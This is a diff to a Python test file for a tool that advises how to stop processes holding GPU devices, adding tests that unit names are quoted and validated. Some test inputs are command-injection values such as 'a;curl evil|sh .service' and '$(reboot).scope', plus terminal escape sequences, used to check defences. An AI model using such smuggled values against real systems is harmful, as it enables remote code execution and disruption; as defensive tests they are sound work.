@@ -3,15 +3,19 @@
 from __future__ import annotations
 
 import os
+import re
+import shlex
 import stat
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from plugin.cli.holders import name_pods
-from plugin.holder_advice import advise
+from plugin.cli.holders import lines_of, name_pods
+from plugin.holder_advice import _COMMANDS, advise
 from plugin.holders import Holder, Listing, list_holders, read_dri_nodes
 from tests.plugin.daemon_process import wait_until
 
@@ -145,17 +149,70 @@ def holder(command: str = "python3", **where: str) -> Holder:
             "somebody's login session: ask them, or loginctl terminate-session 3",
             id="a shell",
         ),
-        pytest.param(holder(unit="job.service"), "systemctl stop job.service", id="a service"),
+        pytest.param(holder(unit="job.service"), "systemctl stop -- job.service", id="a service"),
         pytest.param(holder(unit="user@1000.service"), "kill 4711", id="a program of somebody's session manager"),
         pytest.param(holder(unit="ssh.service"), "kill 4711", id="a program below ssh, which is not to be stopped"),
         pytest.param(
             holder(unit="sshd@7-10.0.0.1:22.service"), "kill 4711", id="a program below one connection of ssh"
+        ),
+        pytest.param(holder(unit="a;curl evil|sh .service"), "kill 4711", id="a name that no unit has"),
+        pytest.param(holder(unit="$(reboot).scope"), "kill 4711", id="a name that a shell would run"),
+        pytest.param(holder(unit="x" * 300 + ".service"), "kill 4711", id="a name that is too long"),
+        pytest.param(holder(unit="session-$(id).scope"), "kill 4711", id="a session that is none"),
+        pytest.param(
+            holder(unit=r"run-\x2dq.service"), r"systemctl stop -- 'run-\x2dq.service'", id="a name with an escape"
+        ),
+        pytest.param(holder(unit="--now.service"), "systemctl stop -- --now.service", id="a name like an option"),
+        pytest.param(
+            holder(unit="user@1000.service", container_id=ID), "kill 4711", id="a container of somebody's own engine"
         ),
         pytest.param(holder(), "kill 4711", id="nobody's"),
     ],
 )
 def test_each_holder_comes_with_what_to_do_about_it(who: Holder, advice: str) -> None:
     assert advise(who) == advice
+
+
+@given(unit=st.text(), command=st.text(), pod=st.text())
+def test_no_advice_runs_what_a_name_says(unit: str, command: str, pod: str) -> None:
+    """Everything but a quoted word of these commands is ours."""
+    for who in (holder(command, unit=f"{unit}.service"), holder(command, unit=f"session-{unit}.scope")):
+        advice = advise(who)
+        assert advice in (*_COMMANDS.values(), "kill 4711") or advice.startswith(
+            ("systemctl stop -- ", "somebody's login session", "systemctl restart grapnel-node:")
+        )
+        if advice.startswith("systemctl stop -- "):
+            assert shlex.split(advice) == ["systemctl", "stop", "--", f"{unit}.service"]
+            assert re.fullmatch(r"[\w:.@'\\-]+", advice.removeprefix("systemctl stop -- "), re.ASCII)
+    named = advise(holder(pod_uid=UID, pod_name=f"shop/{pod}"))
+    assert shlex.split(named.partition("kubectl delete")[2].rpartition(" ends it, ")[0])[-1] == pod
+
+
+def test_names_that_a_user_chose_are_fit_to_be_shown(proc: Proc) -> None:
+    proc.add(7, "/dev/nvidia\x1b]0;x\x07")
+    (proc.folder / "7/comm").write_text("\x1b[2Jevil\n")
+    (proc.folder / "7/cgroup").write_text("0::/system.slice/a\x9b;\x85" + "b" * 400 + ".service\n")
+
+    (found,) = list_holders(proc.folder).holders
+
+    assert found.command == r"\x1b[2Jevil"
+    assert found.devices == (r"/dev/nvidia\x1b]0;x\x07",)
+    assert found.unit is not None
+    assert found.unit.startswith(r"a\x9b;\x85bbb")
+    assert len(found.unit) <= 256
+    assert all(line.isprintable() for line in "\n".join(lines_of([found], [])).split("\n"))
+    assert advise(found) == "kill 7"
+
+
+def test_a_unit_that_a_user_made_below_another_is_not_believed(proc: Proc) -> None:
+    proc.add(7, "/dev/nvidia0")
+    forged = "0::/user.slice/user-1000.slice/user@1000.service/x\x85/nvidia-persistenced.service\n"
+    (proc.folder / "7/cgroup").write_text(forged)
+
+    (found,) = list_holders(proc.folder).holders
+
+    assert found.unit == "user@1000.service"
+    assert advise(found) == "kill 7"
 
 
 def test_the_lister_itself_is_nobody(proc: Proc) -> None:
